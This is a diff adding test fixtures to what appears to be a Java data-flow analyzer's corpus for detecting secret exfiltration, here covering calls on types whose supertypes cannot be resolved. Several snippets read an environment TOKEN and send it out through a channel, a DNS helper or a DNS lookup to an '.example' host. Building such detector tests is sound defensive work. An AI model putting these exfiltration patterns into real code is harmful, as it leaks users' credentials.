@@ -141,6 +141,24 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        inline("a sink on a type nobody can see is matched by method name", "unresolved supertypes: receiver type missing", """
+                package PKG;
+                import org.vendorlib.transport.Channel;
+                class A {
+                    void f(Channel channel) throws Exception {
+                        channel.send(System.getenv("TOKEN")); // expect: EXFIL
+                    }
+                }
+                """);
+        viaSend("a source inherited from a supertype nobody can see is matched by method name", "unresolved supertypes: static call on a missing type", true, """
+                package PKG;
+                class A extends org.vendorlib.Platform {
+                    void f() throws Exception {
+                        String v = org.vendorlib.Platform.getenv("TOKEN");
+                        Send.dns(v);
+                    }
+                }
+                """);
         inline("local variable", "locals", """
                 package PKG;
                 class A {
@@ -612,6 +630,20 @@ final class FlowCorpus {
                         Matcher m = Pattern.compile("[a-z]+").matcher(System.getenv("TOKEN"));
                         boolean ok = m.matches();
                         InetAddress.getByName(ok + ".example");
+                    }
+                }
+                """);
+        add("unresolved supertypes: the visible class's own method body is what runs", "negative: settled by a concrete declaration", """
+                package PKG;
+                class Relay extends org.vendorlib.transport.PooledSocket {
+                    void send(String frame) {
+                    }
+                }
+                """, """
+                package PKG;
+                class A {
+                    void f(Relay relay) throws Exception {
+                        relay.send(System.getenv("TOKEN"));
                     }
                 }
                 """);
